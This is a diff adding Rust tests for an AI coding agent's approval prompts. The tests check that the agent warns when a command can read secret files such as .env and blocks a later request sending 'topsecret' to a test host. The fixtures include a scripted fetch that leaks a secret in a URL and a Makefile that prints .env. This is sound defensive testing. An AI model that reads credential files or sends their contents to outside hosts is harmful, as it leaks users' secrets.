@@ -296,3 +296,68 @@ async fn a_question_whose_input_ends_is_answered_by_nobody() {
     );
     assert!(!stage.home.work().join("x").exists());
 }
+
+/// A workspace with a makefile that prints a file with secrets.
+fn with_makefile(scene: &Scene) {
+    fs::write(scene.stage.home.work().join("Makefile"), "test:\n\t@cat .env\n").unwrap();
+}
+
+#[tokio::test]
+async fn a_yes_to_a_command_says_which_secrets_it_opens_and_counts_as_reading_them() {
+    for has_secrets in [true, false] {
+        let scene = Scene::new(|host| {
+            let leak = format!("{host}/?k=topsecret");
+            vec![run("make test"), fetch(&leak), done(), fetch(&leak), done()]
+        });
+        let scene = scene.await;
+        with_makefile(&scene);
+        if has_secrets {
+            let work = scene.stage.home.work();
+            fs::write(work.join(".env"), "key = topsecret\n").unwrap();
+            fs::create_dir(work.join("sub")).unwrap();
+            fs::write(work.join("sub/server.pem"), "pem\n").unwrap();
+        }
+        let mut started = scene.stage.buddy(["--trust"]).converse();
+        started.write(b"go\n").await;
+        started.stderr.wait_for(APPROVE, 1).await;
+        let shown = started.stderr.text();
+        let line = "It can read .env and 1 other file with secrets.";
+        assert_eq!(shown.contains(line), has_secrets, "{shown}");
+        started.write(b"y\n").await;
+        if has_secrets {
+            started.stderr.wait_for(APPROVE, 2).await;
+            assert!(started.stderr.text().contains("has read a secret"), "{}", started.stderr.text());
+            scene.saw(0);
+            started.write(b"n\n").await;
+        }
+        started.stdout.wait_for("So be it.", 1).await;
+        started.finish().await.expect_code(0);
+        let result = &scene.stage.results()[0];
+        assert_eq!(result["result"]["stdout"].to_string().contains("topsecret"), has_secrets, "{result:#}");
+        // The log alone says so when the session is taken up again.
+        scene.stage.buddy(["exec", "--last", "go on"]).run().await.expect_code(if has_secrets {
+            5
+        } else {
+            0
+        });
+        scene.saw(if has_secrets { 0 } else { 2 });
+    }
+}
+
+#[tokio::test]
+async fn a_grant_of_a_command_opens_no_secrets() {
+    let scene = Scene::new(|_| vec![run("make test"), run("make test"), done()]).await;
+    with_makefile(&scene);
+    fs::write(scene.stage.home.work().join(".env"), "key = topsecret\n").unwrap();
+    let mut started = scene.stage.buddy(["--trust"]).converse();
+    started.write(b"go\n").await;
+    started.stderr.wait_for(APPROVE, 1).await;
+    started.write(b"a\n").await;
+    started.stdout.wait_for("So be it.", 1).await;
+    started.finish().await.expect_code(0);
+    let results = scene.stage.results();
+    assert!(results[0]["result"]["stdout"].to_string().contains("topsecret"), "{:#}", results[0]);
+    let granted = &results[1]["result"];
+    assert!(!granted.to_string().contains("topsecret"), "{granted:#}");
+    assert!(granted["sealed"].to_string().contains(".env, a file with secrets"), "{granted:#}");
+}
